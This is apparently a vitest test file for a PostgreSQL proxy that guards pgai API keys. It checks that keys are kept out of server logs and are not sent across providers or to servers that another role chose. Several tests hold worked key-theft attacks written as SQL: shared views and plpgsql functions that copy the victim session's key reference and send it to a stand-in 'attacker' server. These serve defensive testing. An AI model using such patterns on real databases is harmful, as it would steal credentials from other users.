// pgai's keys, found as pgai finds them: the api_key argument, the session's ai.<api_key_name> setting (SET or
// set_config, which the proxy keeps, so the key never reaches the server, its log or SHOW), the proxy's environment.
// The proxy's own key goes only to the server the proxy is configured with, and api_key_name reaches no other
// variable of its environment, nor another provider's key in the session.

import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import pg from 'pg';
import { describe, expect, it } from 'vitest';
import { afterThisTest, freshDatabase } from '../support/database.js';
import { startFakeProvider } from '../support/fake-provider.js';
import { clientOf } from '../support/pg-ai.js';
import { aiDatabase, fakeRoot, pgaiSuite, pointedAt } from '../support/pgai.js';
import { cluster, connection, startProxy } from '../support/proxy.js';
import { RawClient, serialize } from '../support/raw-client.js';

const ENV_KEY = 'sk-env-0123456789abcdef';
const suite = pgaiSuite((fake) => ({
  defaults: { env: { OPENAI_API_KEY: ENV_KEY, OPENAI_BASE_URL: fake.baseUrl, COHERE_API_KEY: 'co-env-0123456789', CO_API_URL: fakeRoot(fake), DATABASE_PASSWORD: 'not-for-pgai-0123456789' } },
}));

function unique(prefix: string): string {
  return `${prefix}-${randomBytes(12).toString('hex')}`;
}

function serverLog(): string {
  return readFileSync(path.join(cluster().socketDir, 'server.log'), 'utf8');
}

const authorizations = () => suite.fake.requests.map((request) => request.authorization);

describe('keys by setting', () => {
  it('SET ai.openai_api_key is kept by the proxy: the calls use it, the server log and SHOW never see it', async () => {
    const { name, client: direct } = await freshDatabase();
    for (const setting of [`log_min_messages = notice`, `log_statement = 'all'`, `log_parameter_max_length = 0`]) await direct.query(`ALTER DATABASE ${name} SET ${setting}`);
    const client = await clientOf(suite.proxy, name);
    await client.query('CREATE EXTENSION ai');
    const key = unique('sk-set');
    const other = unique('sk-cfg');
    await client.query(`SET ai.openai_api_key = '${key}'`);
    await client.query(`SELECT ai.openai_embed('m', 'x', client_config => $1)`, [JSON.stringify({ base_url: suite.fake.baseUrl })]);
    expect(authorizations()).toEqual([`Bearer ${key}`]);
    expect((await client.query('SHOW ai.openai_api_key')).rows[0]['ai.openai_api_key']).toMatch(/^held by pg_llm proxy /);
    // pgai's documented form, set_config with the key written out, and a name of the caller's choosing.
    await client.query(`SELECT set_config('ai.team_key', '${other}', false) IS NOT NULL AS set_config`);
    await client.query(`SELECT ai.openai_embed('m', 'y', api_key_name => 'TEAM_KEY', client_config => $1)`, [JSON.stringify({ base_url: suite.fake.baseUrl })]);
    expect(authorizations()[1]).toBe(`Bearer ${other}`);
    // SET LOCAL ends with its transaction, as PostgreSQL's settings do; then the proxy's environment answers.
    await client.query('RESET ai.openai_api_key');
    await client.query(`BEGIN; SET LOCAL ai.openai_api_key = '${key}'; COMMIT`);
    await client.query(`SELECT ai.openai_embed('m', 'z')`);
    expect(authorizations()[2]).toBe(`Bearer ${ENV_KEY}`);
    const log = serverLog();
    expect(log).toContain('SET ai.openai_api_key');
    for (const secret of [key, other]) expect(log).not.toContain(secret.slice(-16));
  });

  it("api_key_name names no other provider's key: a session's Anthropic key is never an OpenAI request's", async () => {
    const { client } = await aiDatabase(suite);
    await client.query(pointedAt(suite.fake));
    await client.query(`SET ai.openai_api_key = 'sk-openai-0123456789'; SET ai.anthropic_api_key = 'sk-ant-0123456789'; SET ai.voyage_api_key = 'pa-voyage-0123456789'`);
    const refused = (key: string, api: string) => ({ code: '42501', message: `api_key_name ${key} names another provider's key: it is not sent to the ${api} API`, hint: expect.stringContaining('api_key') });
    await expect(client.query(`SELECT ai.openai_embed('m', 'x', api_key_name => 'anthropic_api_key')`)).rejects.toMatchObject(refused('anthropic_api_key', 'openai'));
    await expect(client.query(`SELECT ai.anthropic_generate('c', '[{"role": "user", "content": "hi"}]', api_key_name => 'OPENAI_API_KEY')`)).rejects.toMatchObject(refused('OPENAI_API_KEY', 'anthropic'));
    await expect(client.query(`SELECT ai.cohere_embed('embed-v3', 'x', api_key_name => 'Voyage_Api_Key')`)).rejects.toMatchObject(refused('Voyage_Api_Key', 'cohere'));
    // A Kelvin sign, which toUpperCase() keeps and toLowerCase() makes a k, names another setting, as in PostgreSQL (review V2).
    await expect(client.query(`SELECT ai.openai_embed('m', 'x', api_key_name => 'anthropic_api_\u212Aey')`)).rejects.toMatchObject({ code: '55000', message: 'missing anthropic_api_\u212Aey secret' });
    expect(suite.fake.requests).toEqual([]);
    // The provider's own name, in any case, and a name of the caller's own still choose the key.
    await client.query(`SET ai.team_key = 'sk-team-0123456789'`);
    await client.query(`SELECT ai.openai_embed('m', 'x', api_key_name => 'openai_api_key'), ai.openai_embed('m', 'y', api_key_name => 'team_key')`);
    expect(authorizations().sort()).toEqual(['Bearer sk-openai-0123456789', 'Bearer sk-team-0123456789']);
  });

  it('a key setting cannot be kept by the server: ALTER ROLE … SET is refused', async () => {
    const { client } = await aiDatabase(suite);
    await expect(client.query(`ALTER ROLE CURRENT_USER SET ai.openai_api_key = 'sk-stored-in-catalog'`)).rejects.toMatchObject({ code: '0A000' });
    // A key setting the parser refuses stays in the proxy; any other broken statement is the server's to refuse.
    await expect(client.query(`SET ai.openai_api_key = 'sk-broken-0123456789' garbage`)).rejects.toMatchObject({ code: '42601', message: expect.stringContaining('not sent to the server') });
    await expect(client.query(`SELECT ai.openai_embed('m', 'x'`)).rejects.toMatchObject({ code: '42601', message: 'syntax error at end of input' });
    expect(serverLog()).not.toContain('sk-broken-0123456789');
    // Settings that name a server are not keys: they reach the server as they are.
    await client.query(`SET ai.ollama_host = 'http://ollama.internal:11434'`);
    expect((await client.query('SHOW ai.ollama_host')).rows).toEqual([{ 'ai.ollama_host': 'http://ollama.internal:11434' }]);
    // Nor are pgai's vectorizer defaults, which its SQL reads: ai.grant_to() finds the role.
    await client.query(`SET ai.grant_to_default = 'trust_user'; SET ai.indexing_default = 'indexing_hnsw'`);
    expect((await client.query(`SELECT array_to_string(ai.grant_to(), ',') AS roles, current_setting('ai.indexing_default') AS indexing`)).rows).toEqual([{ roles: 'trust_user', indexing: 'indexing_hnsw' }]);
  });
});

describe('keys by argument and by environment', () => {
  it('the api_key argument first, then the setting, then the environment', async () => {
    const { client } = await aiDatabase(suite);
    await client.query(pointedAt(suite.fake));
    await client.query(`SELECT ai.openai_embed('m', 'a', api_key => 'sk-argument-000000')`);
    await client.query(`SET ai.openai_api_key = 'sk-session-0000000'`);
    await client.query(`SELECT ai.openai_embed('m', 'b')`);
    await client.query(`SELECT ai.openai_embed('m', 'c', api_key => 'sk-argument-111111')`);
    expect(authorizations()).toEqual(['Bearer sk-argument-000000', 'Bearer sk-session-0000000', 'Bearer sk-argument-111111']);
  });

  it("the proxy's key goes to the proxy's server only, and api_key_name reaches only the provider's own variable", async () => {
    const { client } = await aiDatabase(suite);
    await client.query(`SELECT ai.openai_embed('m', 'env')`);
    await client.query(`SELECT ai.cohere_embed('embed-v3', 'env')`);
    // A key of the caller's own goes to the proxy's server too, where the session names none.
    await client.query(`SELECT ai.openai_embed('m', 'own', api_key => 'sk-own-0123456789')`);
    expect(authorizations()).toEqual([`Bearer ${ENV_KEY}`, 'Bearer co-env-0123456789', 'Bearer sk-own-0123456789']);
    const elsewhere = await startFakeProvider();
    afterThisTest(() => elsewhere.close());
    await expect(client.query(`SELECT ai.openai_embed('m', 'x', client_config => $1)`, [JSON.stringify({ base_url: elsewhere.baseUrl })])).rejects.toMatchObject({
      code: '42501',
      message: "the proxy's OPENAI_API_KEY is sent only to the server the proxy is configured with",
      hint: expect.not.stringContaining(elsewhere.baseUrl),
    });
    await client.query(`SET ai.openai_base_url = '${elsewhere.baseUrl}'`);
    await expect(client.query(`SELECT ai.openai_embed('m', 'x')`)).rejects.toMatchObject({ code: '42501' });
    expect(elsewhere.requests).toEqual([]);
    await expect(client.query(`SELECT ai.openai_embed('m', 'x', api_key_name => 'DATABASE_PASSWORD')`)).rejects.toMatchObject({
      code: '55000',
      message: 'missing DATABASE_PASSWORD secret',
    });
    await expect(client.query(`SELECT ai.anthropic_generate('c', '[]')`)).rejects.toMatchObject({ code: '55000', message: 'missing ANTHROPIC_API_KEY secret' });
  });

  it('a proxy without keys says which are missing and how to give one', async () => {
    const bare = await startProxy();
    afterThisTest(() => bare.stop());
    const { name } = await freshDatabase();
    const client = await clientOf(bare, name);
    await client.query('CREATE EXTENSION ai');
    await expect(client.query(`SELECT ai.voyageai_embed('voyage-3', 'x')`)).rejects.toMatchObject({
      code: '55000',
      message: 'missing VOYAGE_API_KEY secret',
      hint: expect.stringContaining('SET ai.voyage_api_key'),
    });
  });
});

describe('a secret the session handed the proxy', () => {
  const VICTIM_KEY = 'sk-victim-0123456789abcdef';

  /**
   * A database where role trust_user owns schema shared (readable by all), and a session of another role, the victim;
   * `settings` are the database's (ALTER DATABASE … SET).
   */
  async function sharedSchema(settings: string[] = []) {
    const { name, client: direct } = await freshDatabase();
    for (const setting of settings) await direct.query(`ALTER DATABASE ${name} SET ${setting}`);
    await direct.query(`CREATE SCHEMA shared AUTHORIZATION trust_user; GRANT USAGE ON SCHEMA shared TO PUBLIC`);
    const owner = await clientOf(suite.proxy, name);
    await owner.query('CREATE EXTENSION ai');
    await owner.query('CREATE EXTENSION pg_llm');
    const other = await clientOf(suite.proxy, name, 'trust');
    const victim = await clientOf(suite.proxy, name, 'password');
    const attacker = await startFakeProvider();
    afterThisTest(() => attacker.close());
    return { direct, other, victim, attacker };
  }

  /** A view of the other role's, readable by all, whose call sends the session's key to `server`. */
  async function notesView(other: pg.Client, server: string): Promise<void> {
    await other.query(`CREATE VIEW shared.notes AS SELECT 'hello'::text AS body
                        WHERE (ai.openai_embed('m', 'x', client_config => '{"base_url": "${server}"}') IS NULL) IS NOT NULL`);
    await other.query('GRANT SELECT ON shared.notes TO PUBLIC');
  }

  it("is not sent by another role's view to a server that role chose", async () => {
    const { other, victim, attacker } = await sharedSchema();
    // Its rows are the same whether the call has its result yet (the proxy's collect pass) or not.
    await notesView(other, attacker.baseUrl);
    // Trusted, so that the rule at stake here refuses, not that of statements reaching another role's code.
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'; SET pg_llm.trusted_owners = 'trust_user'`);
    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes`)).rejects.toMatchObject({
      code: '42501',
      message: 'a secret this session handed the proxy goes only to a server the session named itself, and the openai server of this call was chosen elsewhere',
      hint: expect.stringContaining('SET ai.openai_base_url'),
    });
    expect(attacker.requests).toEqual([]);
    // Named by the victim in a server's place of its own call, the same server is the victim's choice.
    await victim.query(`SELECT ai.openai_embed('m', 'mine', client_config => '{"base_url": "${attacker.baseUrl}"}')`);
    await victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes`);
    expect(attacker.requests.map((request) => request.authorization)).toContain(`Bearer ${VICTIM_KEY}`);
  });

  // Review34: any URL in any statement or parameter counted as the session's naming of a server, so a document the
  // session embedded or a message it sent that mentioned the view owner's server made it the session's choice.
  it("is not sent by another role's view to a server the session mentioned only in a prompt, a message or a comment", async () => {
    const { other, victim, attacker } = await sharedSchema();
    await notesView(other, attacker.baseUrl);
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
    await victim.query(`SELECT ai.openai_embed('m', 'the docs moved to ${attacker.baseUrl} last week') -- ${attacker.baseUrl}`);
    await victim.query(`SELECT ai.openai_embed('m', $1)`, [`the docs moved to ${attacker.baseUrl}`]);
    await victim.query(`SELECT ai.openai_chat_complete('m', $1)`, [JSON.stringify([{ role: 'user', content: attacker.baseUrl }])]);
    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes`)).rejects.toMatchObject({ code: '42501' });
    expect(attacker.requests).toEqual([]);
    // A URL standing alone, as a constant or a parameter, names the server.
    await victim.query(`SELECT ai.openai_embed('m', 'x', client_config => jsonb_build_object('base_url', $1::text))`, [attacker.baseUrl]);
    expect(attacker.requests.map((request) => request.authorization)).toEqual([`Bearer ${VICTIM_KEY}`]);
  });

  // Review issue 12: a whole URL anywhere in a statement calling a model named the server, whatever it was given for,
  // so an application binding its users' URLs beside its calls let another role's view send the key there.
  it("is not sent by another role's view to a URL the session wrote or bound only as data beside its calls", async () => {
    const { other, victim, attacker } = await sharedSchema();
    await notesView(other, attacker.baseUrl);
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
    const ownServer = JSON.stringify({ base_url: suite.fake.baseUrl });
    suite.fake.requests.length = 0;
    await victim.query(`SELECT $1::text AS url, ai.openai_embed('m', $2, client_config => $3)`, [attacker.baseUrl, 'a page', ownServer]);
    await victim.query(`SELECT '${attacker.baseUrl}' AS url, ai.openai_embed('m', 'a page', client_config => '${ownServer}')`);
    await victim.query(`SELECT ai.openai_embed('m', 'a page', client_config => jsonb_build_object('base_url', $1::text, 'source', $2::text))`, [suite.fake.baseUrl, attacker.baseUrl]);
    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes`)).rejects.toMatchObject({ code: '42501' });
    expect(attacker.requests).toEqual([]);
    expect(authorizations()).toEqual(Array(3).fill(`Bearer ${VICTIM_KEY}`));
  });

  // Review C of issue 12: a URL the session named for a keyless API (an Ollama host) counted for every API, keys
  // included; and a parameter anywhere inside a server's argument (a lookup by a user's URL) counted as the server.
  it("is not sent to a server the session named only for another API, or only as a value its server's argument looks up with", async () => {
    const { other, victim, attacker } = await sharedSchema();
    await notesView(other, attacker.baseUrl);
    await other.query(`CREATE VIEW shared.prices AS SELECT 42 AS price WHERE set_config('ai.openai_base_url', '${attacker.baseUrl}', false) IS NOT NULL`);
    await other.query('GRANT SELECT ON shared.prices TO PUBLIC');
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
    await victim.query(`SET ai.ollama_host = '${attacker.baseUrl}'`);
    suite.fake.requests.length = 0;
    await victim.query(`CREATE TEMP TABLE tenants (url text, config jsonb); INSERT INTO tenants VALUES ('${attacker.baseUrl}', '{}')`);
    await victim.query(`SELECT ai.openai_embed('m', 'a page', client_config => (SELECT config FROM tenants WHERE url = $1))`, [attacker.baseUrl]);
    expect(authorizations()).toEqual([`Bearer ${VICTIM_KEY}`]);
    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes`)).rejects.toMatchObject({ code: '42501' });
    await victim.query('SELECT price FROM shared.prices');
    await expect(victim.query(`SELECT ai.openai_embed('m', 'my private text')`)).rejects.toMatchObject({ code: '42501' });
    expect(attacker.requests).toEqual([]);
  });

  it("is not sent to the server an embedding config another role's view hands ai.vectorizer_embed names", async () => {
    const { other, victim, attacker } = await sharedSchema();
    await other.query(`CREATE VIEW shared.embedded AS SELECT 'hello'::text AS body
                        WHERE (ai.vectorizer_embed('{"implementation": "openai", "model": "m", "base_url": "${attacker.baseUrl}"}'::jsonb, 'x') IS NULL) IS NOT NULL`);
    await other.query('GRANT SELECT ON shared.embedded TO PUBLIC');
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM shared.embedded`)).rejects.toMatchObject({ code: '42501' });
    expect(attacker.requests).toEqual([]);
  });

  it("is not sent where a setting another role's view made in the session points", async () => {
    const { other, victim, attacker } = await sharedSchema();
    await other.query(`CREATE VIEW shared.prices AS SELECT 42 AS price WHERE set_config('ai.openai_base_url', '${attacker.baseUrl}', false) IS NOT NULL`);
    await other.query('GRANT SELECT ON shared.prices TO PUBLIC');
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
    await victim.query('SELECT price FROM shared.prices');
    await expect(victim.query(`SELECT ai.openai_embed('m', 'my private text')`)).rejects.toMatchObject({ code: '42501' });
    expect(attacker.requests).toEqual([]);
    // The victim's own SET of the server, a base_url it binds as a parameter and one in its startup options count.
    await victim.query(`SET ai.openai_base_url = '${suite.fake.baseUrl}'`);
    await victim.query(`SELECT ai.openai_embed('m', 'mine')`);
    await victim.query(`SELECT ai.openai_embed('m', 'bound', client_config => $1)`, [JSON.stringify({ base_url: attacker.baseUrl })]);
    expect(attacker.requests.map((request) => request.authorization)).toEqual([`Bearer ${VICTIM_KEY}`]);
  });

  it("written out in the victim's statement is not sent elsewhere by a call copying its reference from current_query()", async () => {
    const { direct, victim, attacker } = await sharedSchema();
    const stolen = `substring(current_query() from 'held by pg_llm proxy [0-9a-f]{32}')`;
    // The view is a superuser's, in a schema trust_user may create in: trusted, so that the rules at stake here refuse.
    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
    await direct.query(`CREATE VIEW shared.docs AS SELECT 'hello'::text AS body
                         WHERE (ai.openai_embed('m', 'x', api_key => ${stolen}, client_config => '{"base_url": "${attacker.baseUrl}"}') IS NULL) IS NOT NULL`);
    await direct.query('GRANT SELECT ON shared.docs TO PUBLIC');
    await expect(victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', client_config => '{"base_url": "${suite.fake.baseUrl}"}') FROM shared.docs`)).rejects.toMatchObject({
      code: '42501',
    });
    await direct.query(`CREATE OR REPLACE VIEW shared.docs AS SELECT 'hello'::text AS body
                         WHERE (pg_llm_add_model(false, 'openai', 'stolen', ${stolen}, '{"base_url": "${attacker.baseUrl}"}') IS NULL) IS NOT NULL`);
    await expect(victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', client_config => '{"base_url": "${suite.fake.baseUrl}"}') FROM shared.docs`)).rejects.toMatchObject({
      code: '42501',
      message: 'the api_key argument of pg_llm_add_model is a secret this session wrote out in a call of another function',
    });
    expect(attacker.requests).toEqual([]);
    expect((await direct.query(`SELECT count(*)::int AS n FROM _pg_llm_catalog.pg_llm_models WHERE instance_name = 'stolen'`)).rows).toEqual([{ n: 0 }]);
  });

  // Review L1: a reference opened in any call of its function, so another role's view copying it from
  // current_query() (or from the collect pass's table, for a bound key) made calls of its own with the victim's key
  // to the very server the victim named, and kept their answers.
  it("written out or bound in the victim's statement opens in no call of a statement that runs another role's code", async () => {
    const { direct, victim } = await sharedSchema();
    const stolen = `substring(current_query() from 'held by pg_llm proxy [0-9a-f]{32}')`;
    const config = `client_config => '{"base_url": "${suite.fake.baseUrl}"}'`;
    // Past the proxy, which refuses a view computing an api_key from constants.
    await direct.query(`SET ROLE trust_user; CREATE VIEW shared.docs AS SELECT 'hello'::text AS body
                         WHERE (ai.openai_embed('m', 'on the victim''s account', api_key => ${stolen}, ${config}) IS NULL) IS NOT NULL;
                        GRANT SELECT ON shared.docs TO PUBLIC; RESET ROLE`);
    suite.fake.requests.length = 0;
    const refused = {
      code: '42501',
      message: 'a secret this session handed the proxy opens only in a statement that runs no code of roles the session does not trust, and this statement reaches view shared.docs, owned by trust_user, who may change it between this check and the run',
      hint: expect.stringContaining("SET pg_llm.trusted_owners = 'trust_user'"),
    };
    await expect(victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', ${config}) FROM shared.docs`)).rejects.toMatchObject(refused);
    await expect(victim.query(`SELECT ai.openai_embed('m', body, api_key => $1, ${config}) FROM shared.docs`, [VICTIM_KEY])).rejects.toMatchObject(refused);
    expect(suite.fake.requests).toEqual([]);
    // A call opening none of the session's secrets, and a statement reaching only code of roles trusted, run.
    await victim.query(`SELECT ai.openai_embed('m', body, api_key => 'sk-own-view-key-0123456789', ${config}) FROM (SELECT 'mine'::text AS body WHERE random() >= 0) s`);
    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
    await victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', ${config}) FROM shared.docs`);
    expect(suite.fake.requests.flatMap((request) => request.body.input)).toContain("on the victim's account");
  });

  // Review M (L1 again): code of another role that a plain statement ran (not judged: it opens no secret) read a
  // reference (pg_prepared_statements shows it) and planted calls with it in the session's table of collected calls,
  // for execution ids to come; the next statement's collect pass, all the victim's own, made them with its key.
  it("is not spent by calls another role's code planted in the session's tables before the statement", async () => {
    const { other, victim } = await sharedSchema();
    await other.query(`CREATE FUNCTION shared.plant() RETURNS int LANGUAGE plpgsql AS $$
                       DECLARE ref text; a jsonb;
                       BEGIN
                         SELECT substring(statement from 'held by pg_llm proxy [0-9a-f]{32}') INTO ref FROM pg_prepared_statements
                          WHERE statement LIKE '%held by pg_llm proxy%' LIMIT 1;
                         IF ref IS NULL OR to_regclass('pg_temp.pg_llm_collected_calls') IS NULL THEN RETURN 0; END IF;
                         a := jsonb_build_array('planted on the victim''s account', ref, NULL, false, NULL);
                         INSERT INTO pg_temp.pg_llm_collected_calls (execution, call_key, function_name, arguments)
                           SELECT g, md5('k' || a::text), 'ai.openai_chat_complete_simple', a FROM generate_series(0, 100) g ON CONFLICT DO NOTHING;
                         RETURN 1;
                       END $$;
                       CREATE VIEW shared.planter AS SELECT shared.plant() AS n; GRANT SELECT ON shared.planter TO PUBLIC`);
    // Made before the session's first call, as another role's code could: the proxy's tables take its place.
    await victim.query(`CREATE TEMP VIEW pg_llm_collected_calls AS SELECT 1::bigint AS execution`);
    await victim.query(`SET ai.openai_base_url = '${suite.fake.baseUrl}'`);
    await victim.query({ name: 'ask', text: `SELECT ai.openai_chat_complete_simple('hello', api_key => '${VICTIM_KEY}') AS a` });
    await victim.query('BEGIN');
    expect((await victim.query('SELECT n FROM shared.planter')).rows).toEqual([{ n: 1 }]);
    suite.fake.requests.length = 0;
    await victim.query(`SELECT ai.openai_chat_complete_simple(body, api_key => '${VICTIM_KEY}') AS a FROM (VALUES ('mine')) AS v(body)`);
    await victim.query('COMMIT');
    const prompts = suite.fake.requests.map((request) => JSON.stringify(request.body.messages));
    expect(prompts).toEqual([expect.stringContaining('mine')]);
    // A SQL function of the victim's own with a search_path of its own resolves names where the walk does not look.
    await victim.query(`CREATE FUNCTION pg_temp.clean(x text) RETURNS text LANGUAGE sql STABLE SET search_path = shared, public AS $$ SELECT btrim(x) $$`);
    await expect(victim.query(`SELECT ai.openai_chat_complete_simple(pg_temp.clean(body), api_key => '${VICTIM_KEY}') AS a FROM (VALUES ('mine')) AS v(body)`)).rejects.toMatchObject({
      code: '42501',
      message: expect.stringContaining('which sets configuration parameters of its own'),
    });
  });

  // Review: a reference stood for its key in any setting, so a view copying the session's Anthropic key into
  // ai.openai_api_key had the next OpenAI call send it as its bearer.
  it("set in one setting is not sent by another API when another role's view copies its reference into that API's setting", async () => {
    const { other, victim } = await sharedSchema();
    await other.query(`CREATE VIEW shared.rates AS SELECT 42 AS rate
                        WHERE set_config('ai.openai_api_key', current_setting('ai.anthropic_api_key', true), false) IS NOT NULL`);
    await other.query('GRANT SELECT ON shared.rates TO PUBLIC');
    const anthropicKey = unique('sk-ant');
    await victim.query(`SET ai.openai_base_url = '${suite.fake.baseUrl}'; SET ai.anthropic_api_key = '${anthropicKey}'`);
    await victim.query('SELECT rate FROM shared.rates');
    suite.fake.requests.length = 0;
    await expect(victim.query(`SELECT ai.openai_embed('m', 'my private text')`)).rejects.toMatchObject({
      code: '42501',
      message: 'ai.openai_api_key holds a reference to the key this session set in ai.anthropic_api_key: a key goes only to the API whose setting it was set in',
      hint: expect.stringContaining('SET ai.openai_api_key'),
    });
    expect(suite.fake.requests).toEqual([]);
    // Set by the session itself, the setting's key is used again.
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
    await victim.query(`SELECT ai.openai_embed('m', 'my private text')`);
    expect(authorizations()).toEqual([`Bearer ${VICTIM_KEY}`]);
  });

  // Review S-B: a key set under a name of the session's own choosing went to whatever API a view's call named it for.
  it("set under a name of the session's own is sent only to an API the session's client named it for", async () => {
    const { other, victim } = await sharedSchema();
    await other.query(`CREATE VIEW shared.scores AS SELECT 7 AS score WHERE (ai.openai_embed('m', 'x', api_key_name => 'my_cohere_key') IS NULL) IS NOT NULL`);
    await other.query('GRANT SELECT ON shared.scores TO PUBLIC');
    const cohereKey = unique('co-key');
    await victim.query(`SET ai.openai_base_url = '${suite.fake.baseUrl}'; SET ai.cohere_base_url = '${suite.fake.baseUrl.replace(/\/v1$/, '')}'; SET ai.my_cohere_key = '${cohereKey}'`);
    // Trusted, so that the rule at stake here refuses, not that of statements reaching another role's code.
    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
    suite.fake.requests.length = 0;
    const refused = {
      code: '42501',
      message: 'the key in ai.my_cohere_key goes only to an API this session\'s client named it for, and this openai call was written elsewhere',
      hint: expect.stringContaining("api_key_name => 'my_cohere_key'"),
    };
    // The victim's own call names it for Cohere; the view's call (run by the proxy, as the statement calls a function of
    // its own) is not the victim's naming it for OpenAI.
    const statement = `SELECT ai.cohere_embed('embed-english-v3.0', score::text, api_key_name => 'my_cohere_key') FROM shared.scores`;
    await expect(victim.query(statement)).rejects.toMatchObject(refused);
    const openAiRequests = () => suite.fake.requests.filter((request) => request.path.endsWith('/embeddings'));
    expect(openAiRequests()).toEqual([]);
    // Named by the victim for OpenAI in its own statement (here in an embedding config's builder), the key is the
    // victim's choice there.
    await victim.query(`SELECT ai.vectorizer_embed(ai.embedding_openai('m', 3, api_key_name => 'MY_COHERE_KEY'), 'mine')`);
    await victim.query(statement);
    expect(openAiRequests().map((request) => request.authorization)).toEqual([`Bearer ${cohereKey}`, `Bearer ${cohereKey}`]);
  });

  // Review W1: a view's own call read the session's key from its setting and sent it, with the view owner's prompt,
  // headers and body, to the session's own server; its answer was the view owner's to keep.
  it("set in the session is used by no call of a statement that runs another role's code, unless the session trusts that role", async () => {
    const { other, victim } = await sharedSchema();
    await other.query(`CREATE VIEW shared.tips AS SELECT 1 AS n WHERE (ai.openai_embed('m', 'the view owner asks') IS NULL) IS NOT NULL;
      GRANT SELECT ON shared.tips TO PUBLIC`);
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'; SET ai.openai_base_url = '${suite.fake.baseUrl}'`);
    suite.fake.requests.length = 0;
    await expect(victim.query(`SELECT ai.openai_embed('m', 'mine') IS NOT NULL, n FROM shared.tips`)).rejects.toMatchObject({
      code: '42501',
      message: 'a secret this session handed the proxy opens only in a statement that runs no code of roles the session does not trust, and this statement reaches view shared.tips, owned by trust_user, who may change it between this check and the run',
      hint: expect.stringContaining("SET pg_llm.trusted_owners = 'trust_user'"),
    });
    expect(suite.fake.requests).toEqual([]);
    // So in a statement the proxy runs as rows come (a projection of one call, which makes no pass: review X1).
    await other.query(`CREATE VIEW shared.bodies AS SELECT 'a body'::text AS body; GRANT SELECT ON shared.bodies TO PUBLIC`);
    await expect(
      victim.query(`SELECT ai.openai_chat_complete('gpt-4o-mini', jsonb_build_array(jsonb_build_object('role', 'user', 'content', body))) FROM shared.bodies`),
    ).rejects.toMatchObject({ code: '42501', message: expect.stringContaining('reaches view shared.bodies, owned by trust_user') });
    // And in a cursor over one, whose calls are made as its rows are fetched.
    await victim.query(`BEGIN; DECLARE tips_cursor CURSOR FOR SELECT ai.openai_chat_complete('gpt-4o-mini', jsonb_build_array(jsonb_build_object('role', 'user', 'content', body))) FROM shared.bodies`);
    await expect(victim.query('FETCH 1 FROM tips_cursor')).rejects.toMatchObject({ code: '42501', message: expect.stringContaining('reaches view shared.bodies, owned by trust_user') });
    await victim.query('ROLLBACK');
    expect(suite.fake.requests).toEqual([]);
    // Its own calls alone, and a statement reaching only code of roles it trusts, run.
    await victim.query(`SELECT ai.openai_embed('m', 'mine')`);
    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
    await victim.query(`SELECT ai.openai_embed('m', 'mine') IS NOT NULL, n FROM shared.tips`);
    expect(suite.fake.requests.flatMap((request) => request.body.input)).toContain('the view owner asks');
  });

  // Review X1: another role's SECURITY INVOKER function, run by any earlier statement of the session (here reading
  // its view, with no call at all), made a temporary view in the victim's name, found before the victim's own table.
  it("set in the session is used by no call reaching temporary code another role's function made in the session's name", async () => {
    const { other, victim } = await sharedSchema();
    await other.query(`CREATE FUNCTION shared.plant() RETURNS int LANGUAGE plpgsql AS $$
                       BEGIN
                         CREATE TEMP VIEW docs AS SELECT 'planted'::text AS body WHERE (ai.openai_embed('m', 'the planted view asks') IS NULL) IS NOT NULL;
                         CREATE TEMP TABLE queue (body text, answer text DEFAULT ai.openai_embed('m', 'the planted default asks')::text);
                         RETURN 1;
                       END $$;
                       CREATE VIEW shared.counts AS SELECT shared.plant() AS n; GRANT SELECT ON shared.counts TO PUBLIC`);
    await victim.query('SELECT n FROM shared.counts');
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'; SET ai.openai_base_url = '${suite.fake.baseUrl}'`);
    suite.fake.requests.length = 0;
    const refused = (what: string) => ({ code: '42501', message: expect.stringMatching(new RegExp(`reaches ${what}, a temporary object`)), hint: expect.stringContaining('with its schema') });
    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM docs`)).rejects.toMatchObject(refused('view pg_temp_\\d+\\.docs'));
    await expect(victim.query(`INSERT INTO queue (body) SELECT ai.openai_embed('m', 'mine')::text`)).rejects.toMatchObject(refused('table pg_temp_\\d+\\.queue'));
    expect(suite.fake.requests).toEqual([]);
    // A temporary table of plain columns (a serial's nextval() default too) is no one's code: read and written.
    await victim.query(`CREATE TEMP TABLE mine (id serial, body text); INSERT INTO mine (body) SELECT ai.openai_embed('m', 'mine')::text`);
    await victim.query(`SELECT ai.openai_embed('m', body) FROM mine`);
    expect(suite.fake.requests.flatMap((request) => request.body.input)).toEqual(['mine', expect.any(String)]);
    expect(suite.fake.requests.map((request) => request.authorization)).toEqual([`Bearer ${VICTIM_KEY}`, `Bearer ${VICTIM_KEY}`]);
  });

  // Review R4: the function switched the session to a role both it and the victim are members of (set_config('role',
  // …)), whose objects the judgement then took for the victim's own; a temporary view made under such a role, or a
  // plain temporary table, stood in for the victim's table all the same.
  it("set in the session is used by no call reaching what another role's function made under a role it switched the session to", async () => {
    const { direct, other, victim } = await sharedSchema();
    const group = unique('r4_group').replace(/-/g, '_');
